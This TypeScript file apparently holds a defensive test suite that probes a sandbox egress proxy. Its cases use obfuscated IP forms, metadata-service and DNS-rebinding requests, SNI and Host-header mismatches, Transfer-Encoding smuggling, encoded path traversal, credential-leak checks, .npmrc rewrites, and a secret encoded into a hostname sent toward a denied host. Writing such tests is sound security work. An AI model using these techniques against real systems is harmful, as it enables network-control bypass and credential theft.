// Attacks on what a session may reach: hosts, ports, addresses, names that change, and requests that two programs read
// differently. Scripts speak to the session's door as the proxy that it is.
import { type AttackCase, inNode } from './attack-case.ts'

const REFUSED_HOST = /^403 host_not_allowed$/
const REFUSED_ADDRESS = /^403 address_not_allowed$/
/** Whatever came of it, the rules had let it pass. */
const PASSED = /^(101|200|502|504)\b/

/** Asks for tunnels; what is said inside of one follows. */
const TUNNEL = `
const tunnel = (authority) => ask('CONNECT ' + authority + ' HTTP/1.1\\r\\nHost: ' + authority + '\\r\\n\\r\\n', { enough: (text) => text.includes('\\r\\n\\r\\n') })
`

/** Speaks TLS through a tunnel; says who has ended it, or what `use` makes of the session. */
const HANDSHAKE = `
import tls from 'node:tls'
const shakeHands = async (host, port, use) => {
  const socket = await connect(DOOR)
  socket.write('CONNECT ' + host + ':' + port + ' HTTP/1.1\\r\\nHost: ' + host + '\\r\\n\\r\\n')
  await new Promise((resolve) => socket.once('data', resolve))
  const outcome = await new Promise((resolve) => {
    const session = tls.connect({ socket, servername: host, rejectUnauthorized: false }, () =>
      resolve(use ? use(session) : 'ended by ' + session.getPeerCertificate().issuer.CN))
    session.on('error', (error) => resolve(error.code))
  })
  socket.destroy()
  return outcome
}
`

export const NETWORK_CASES: AttackCase[] = [
  {
    id: 'host-not-listed',
    title: 'reach a host that is on no list',
    script: ({ deniedHost, port }) =>
      inNode(`${TUNNEL}
const at = '${deniedHost}:${port}'
say('connect', summary(await tunnel(at)))
say('absolute form', summary(await ask(http('GET', 'http://' + at + '/'))))
const upgrade = ['GET http://' + at + '/ HTTP/1.1', 'Host: ' + at, 'Connection: Upgrade', 'Upgrade: websocket', '', '']
say('websocket', summary(await ask(upgrade.join('\\r\\n'), { enough: (text) => text.includes('\\r\\n\\r\\n') })))
say('secret in a name', summary(await tunnel('c2VjcmV0.' + at)))`),
    held: REFUSED_HOST,
    broken: PASSED,
  },
  {
    id: 'port-not-listed',
    title: 'reach a listed host on another port',
    script: ({ webHost, port }) =>
      inNode(`${TUNNEL}say('connect', summary(await tunnel('${webHost}:${port}')))`),
    held: /^403 port_not_allowed$/,
    broken: PASSED,
  },
  {
    id: 'raw-address',
    title: 'reach an address that is on no list, in every way to write it',
    script: ({ publicAddress, port }) =>
      inNode(`${TUNNEL}
const parts = '${publicAddress}'.split('.').map(Number)
const number = parts.reduce((sum, part) => sum * 256 + part, 0)
const forms = {
  plain: parts.join('.'), decimal: String(number), hexadecimal: '0x' + number.toString(16),
  octal: parts.map((part) => '0' + part.toString(8)).join('.'), short: parts.slice(0, 2).join('.') + '.' + (parts[2] * 256 + parts[3]),
  dot: parts.join('.') + '.', mapped: '[::ffff:' + parts.join('.') + ']',
}
for (const [way, host] of Object.entries(forms)) say(way, summary(await tunnel(host + ':${port}')))`),
    held: REFUSED_ADDRESS,
    broken: PASSED,
  },
  {
    id: 'forbidden-address',
    title:
      'reach private networks, metadata services and the machine itself, though they are listed',
    script: ({ listedButForbidden }) =>
      inNode(`${TUNNEL}
for (const at of ${JSON.stringify(listedButForbidden)}) say(at.replace(/[^a-z0-9.]/gi, '-').replace(/^-+/, 'v6 '), summary(await tunnel(at)))`),
    held: REFUSED_ADDRESS,
    broken: PASSED,
  },
  {
    id: 'rebinding',
    title: 'a name that answers with another address the second time',
    script: ({ rebindingHost, port }) =>
      inNode(`say('request', summary(await ask(http('GET', 'http://${rebindingHost}:${port}/'))))`),
    held: /at 203\.0\.113\.66 /,
    broken: /at 169\.254\.169\.254 /,
    notOnInstallation: 'it needs a name server of its own',
  },
  {
    id: 'server-name',
    title: 'ask for another host inside a tunnel to an allowed one',
    script: ({ allowedHost, deniedHost, port }) =>
      inNode(`
import tls from 'node:tls'
for (const [way, servername] of [['other name', '${deniedHost}'], ['no name', '']]) {
  const socket = await connect(DOOR)
  socket.write('CONNECT ${allowedHost}:${port} HTTP/1.1\\r\\nHost: ${allowedHost}\\r\\n\\r\\n')
  await new Promise((resolve) => socket.once('data', resolve))
  say(way, await new Promise((resolve) => {
    const session = tls.connect({ socket, servername, rejectUnauthorized: false }, () => resolve('secure'))
    session.on('error', (error) => resolve(error.code))
  }))
}`),
    held: /UNRECOGNIZED_NAME$/,
    broken: /^(secure|ERR_SSL_(WRONG_VERSION_NUMBER|PACKET_LENGTH_TOO_LONG))$/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'host-header',
    title: 'ask an allowed server for another host by the Host header',
    script: ({ allowedHost, deniedHost, port }) =>
      inNode(`
const request = http('GET', 'http://${allowedHost}:${port}/').replace('errand.internal', '${deniedHost}')
say('request', summary(await ask(request)))`),
    held: /^200 .* for allowed\.example/,
    broken: /^200 .* for denied\.example/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'request-framing',
    title: 'a request whose end two programs see at different places',
    script: ({ allowedHost, port }) =>
      inNode(`
const headers = ['Transfer-Encoding: gzip, chunked']
say('coding', summary(await ask(http('POST', 'http://${allowedHost}:${port}/', headers, '3\\r\\nabc\\r\\n0\\r\\n\\r\\n'))))`),
    held: /^400 transfer_encoding_not_supported$/,
    broken: PASSED,
  },
  {
    id: 'deny-list',
    title: 'reach a host that the installation denies, though the session lists it',
    script: ({ port }) =>
      inNode(`${TUNNEL}
say('connect', summary(await tunnel('banned.example:${port}')))
say('absolute form', summary(await ask(http('GET', 'http://banned.example:${port}/'))))`),
    held: /^403 denied_by_installation$/,
    broken: PASSED,
    notOnInstallation: 'an installation may deny nothing',
  },
  {
    id: 'request-rule',
    title: 'ask an allowed host for another method or path than its rule names',
    script: ({ port }) =>
      inNode(`
const at = 'http://ruled.example:${port}'
say('method', summary(await ask(http('DELETE', at + '/open'))))
for (const [way, path] of [['path', '/closed'], ['dots', '/open/../closed'], ['encoded', '/open/%2e%2e/closed'], ['slash', '/open%2f..%2fclosed']])
  say(way, summary(await ask(http('GET', at + path))))`),
    held: /^403 (method|path)_not_allowed$/,
    broken: PASSED,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'traffic-limit',
    title: 'move more bytes than a session may in a day',
    script: ({ allowedHost, port }) =>
      inNode(`
const answers = []
for (let i = 0; i < 5; i++) answers.push(summary(await ask(http('GET', 'http://${allowedHost}:${port}/'))))
say('requests', answers.at(-1))`),
    held: /^429 bytes_exhausted$/,
    broken: PASSED,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'policy-edit',
    title: 'go on through a connection whose host is no longer allowed',
    script: ({ allowedHost, port }) =>
      inNode(`
const socket = await connect(DOOR)
const read = () => new Promise((resolve) => { socket.once('data', (chunk) => resolve(String(chunk))); socket.once('close', () => resolve('closed')) })
socket.write('CONNECT ${allowedHost}:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
const opened = await read()
if (!opened.includes(' 200 ')) say('tunnel', summary(opened))
const requests = ['/edit', '/after'].map((path) => 'GET ' + path + ' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
socket.write(requests[0])
const first = await read()
socket.write(requests[1])
say('tunnel', first === 'closed' ? first : summary(await read()).split(' ')[0])
socket.destroy()`),
    held: /^closed$/,
    broken: /^200$/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'credential-scope',
    title: 'have an API credential sent to another host or path, or by plain HTTP',
    script: ({ allowedHost, port, placeholder, secret }) =>
      inNode(`
const get = async (at, path, headers) => {
  const answer = await ask(http('GET', 'http://' + at + ':${port}' + path, headers))
  return answer.includes('${secret}') ? 'sent' : /with (nothing|Bearer ${placeholder})$/.test(answer) ? 'not sent' : summary(answer)
}
if (await get('${allowedHost}', '/api/x') !== 'sent') say('own path', 'not sent where it belongs')
const mine = ['Authorization: Bearer ${placeholder}']
say('other host', await get('banned.example', '/api/x'))
say('other host by placeholder', await get('banned.example', '/api/x', mine))
for (const [way, path] of [['other path', '/'], ['longer name', '/api-other'], ['dots', '/api/../other'], ['encoded', '/api/%2e%2e/other']]) {
  say(way, await get('${allowedHost}', path))
  say(way + ' by placeholder', await get('${allowedHost}', path, mine))
}
say('plain http', await get('ruled.example', '/'))`),
    held: /^not sent$/,
    broken: /^sent$/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'other-session-credential',
    title:
      'be given the API credential of another session at its host, or be read inside TLS there',
    script: ({ allowedHost, port, placeholder, secret }) =>
      inNode(`${HANDSHAKE}
const get = async (headers) => {
  const answer = await ask(http('GET', 'http://${allowedHost}:${port}/api/x', headers))
  return answer.includes('${secret}') ? 'sent' : /with (nothing|Bearer ${placeholder})$/.test(answer) ? 'not sent' : summary(answer)
}
say('request', await get([]))
say('placeholder', await get(['Authorization: Bearer ${placeholder}']))
say('handshake', await shakeHands('${allowedHost}', ${port}))`),
    held: /^(not sent|ERR_SSL_(WRONG_VERSION_NUMBER|PACKET_LENGTH_TOO_LONG))$/,
    broken: /^(sent|ended by Errand sandboxes)/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'submodule-credential',
    title: "read a repository with another host's credential by what .gitmodules says",
    script: ({ allowedHost, port, secret }) =>
      inNode(`${HANDSHAKE}
say('read', await shakeHands('${allowedHost}', ${port}, async (session) => {
  const answer = readAll(session)
  session.write(http('GET', '/team/private.git/info/refs?service=git-upload-pack').replace('errand.internal', '${allowedHost}:${port}'))
  return (await answer).includes('${secret}') ? 'sent' : summary(await answer)
}))`),
    // A tunnel: the server itself answers, which speaks no TLS.
    held: /^ERR_SSL_(WRONG_VERSION_NUMBER|PACKET_LENGTH_TOO_LONG)$/,
    broken: /^sent$/,
    notOnInstallation: 'it needs submodules',
  },
  {
    id: 'tls-unread',
    title: 'be read inside TLS to a host that has neither rules nor a credential',
    script: ({ allowedHost, port }) =>
      inNode(`${HANDSHAKE}say('handshake', await shakeHands('${allowedHost}', ${port}))`),
    // The server itself answers, which speaks no TLS.
    held: /^ERR_SSL_(WRONG_VERSION_NUMBER|PACKET_LENGTH_TOO_LONG)$/,
    broken: /^ended by Errand sandboxes/,
    notOnInstallation: 'it needs an allowed host that answers',
  },
  {
    id: 'registry-file',
    title:
      'widen what is reachable by package manager settings in the work tree and the home folder',
    script: ({ deniedHost, port }) => `
mkdir -p /workspace
for file in /workspace/.npmrc /root/.npmrc; do echo 'registry=http://${deniedHost}:${port}/' > $file; done
${inNode(`${TUNNEL}say('connect', summary(await tunnel('${deniedHost}:${port}')))`)}
rm -f /workspace/.npmrc /root/.npmrc`,
    held: REFUSED_HOST,
    broken: PASSED,
  },
]
